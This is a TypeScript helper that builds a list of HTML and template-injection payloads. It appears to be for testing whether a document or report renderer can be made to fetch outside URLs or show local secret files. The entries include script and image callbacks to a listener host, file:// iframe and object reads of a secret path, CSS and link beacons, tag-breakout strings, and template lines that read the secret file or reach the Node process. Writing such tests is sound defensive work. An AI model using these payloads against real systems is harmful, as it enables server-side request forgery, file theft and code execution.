/**
 * What a stranger might write into a request or a report to make the printer fetch or show
 * something.
 */
export function payloads(listener: string, secretFile: string): string[] {
  return [
    `<script>fetch('${listener}/script')</script>`,
    `<img src=x onerror="new Image().src='${listener}/onerror'">`,
    `<img src="${listener}/img">`,
    `<iframe src="file://${secretFile}"></iframe>`,
    `<iframe src="${listener}/iframe"></iframe>`,
    `<iframe srcdoc="<img src='${listener}/srcdoc'>"></iframe>`,
    `<object data="file://${secretFile}"></object>`,
    `<embed src="${listener}/embed">`,
    `<meta http-equiv="refresh" content="0;url=${listener}/refresh">`,
    `<meta http-equiv="refresh" content="0;url=file://${secretFile}">`,
    `<link rel="prefetch" href="${listener}/prefetch">`,
    `<link rel="dns-prefetch" href="${listener}"><link rel="preconnect" href="${listener}">`,
    `<link rel="stylesheet" href="${listener}/style.css">`,
    `<style>@import url(${listener}/import.css);</style>`,
    `<style>body { background: url(${listener}/background) }</style>`,
    `<style>@font-face { font-family: F; src: url(${listener}/font) } p { font-family: F }</style>`,
    `<p style="background:url('${listener}/inline')">样式</p>`,
    `<svg><image href="${listener}/svg"/><use href="file://${secretFile}#a"/></svg>`,
    `<video src="${listener}/video" poster="${listener}/poster" autoplay></video>`,
    `<form action="${listener}/form"><input autofocus onfocus="this.form.submit()"></form>`,
    `<base href="${listener}/base/"><img src="relative">`,
    `<a ping="${listener}/ping" href="${listener}/a">链接</a>`,
    `</title></style></head><body><h1>换了文档</h1><img src="${listener}/closed">`,
    `--><img src="${listener}/comment"><!--`,
    `"><img src="${listener}/attribute">`,
    `<%= process.mainModule.require('fs').readFileSync('${secretFile}', 'utf8') %>`,
    `<%~ it.css %><%= it.constructor.constructor('return process')().pid %>`,
    '${process.env.HOME}',
    '{{constructor.constructor("return process")()}}',
    '&lt;b&gt;已经转义&lt;/b&gt; &amp;amp; &#x3c;script&#x3e;',
  ];
}
